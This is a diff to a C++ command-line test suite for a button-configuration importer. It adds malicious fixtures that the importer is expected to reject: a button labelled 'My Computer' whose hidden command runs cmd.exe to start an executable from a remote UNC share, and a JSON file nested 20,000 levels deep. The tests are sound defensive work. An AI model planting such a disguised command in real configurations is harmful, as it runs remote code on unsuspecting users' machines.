@@ -123,6 +123,8 @@ TEST_F(CommandLineTest, BadInputExitsNonZeroWithAMessageAndChangesNothing) {
     a.WriteFile("not.json", "{ this is not json");
     a.WriteFile("v2.json", R"({"format":"quorlin-buttons","version":2,"buttons":[]})");
     a.WriteFile("nopath.json", R"({"format":"quorlin-buttons","version":1,"buttons":[{"title":"x","kind":0}]})");
+    a.WriteFile("disguised.json", R"({"format":"quorlin-buttons","version":1,"buttons":[{"title":"我的电脑","kind":3,"path":"C:\\Windows\\System32\\cmd.exe","parameter":"/c start \\\\host\\s\\x.exe"}]})");
+    a.WriteFile("deep.json", R"({"format":"quorlin-buttons","version":)" + std::string(20000, '[') + std::string(20000, ']') + "}");
     struct Case {
         std::wstring args;
         DWORD code;
@@ -132,6 +134,8 @@ TEST_F(CommandLineTest, BadInputExitsNonZeroWithAMessageAndChangesNothing) {
         {L"--import " + Quoted(a.File("not.json")), 2, "不是有效的 JSON"},
         {L"--import " + Quoted(a.File("v2.json")), 2, "版本 2 不受支持"},
         {L"--import " + Quoted(a.File("nopath.json")), 2, "第 1 项缺少路径"},
+        {L"--import " + Quoted(a.File("disguised.json")), 2, "第 1 项“我的电脑”被拒绝"},
+        {L"--import " + Quoted(a.File("deep.json")), 2, "嵌套超过 32 层"},
         {L"--import", 1, "用法"},
         {L"--export " + Quoted(a.File("no folder") / "x.json"), 2, "无法写入文件"},
     };
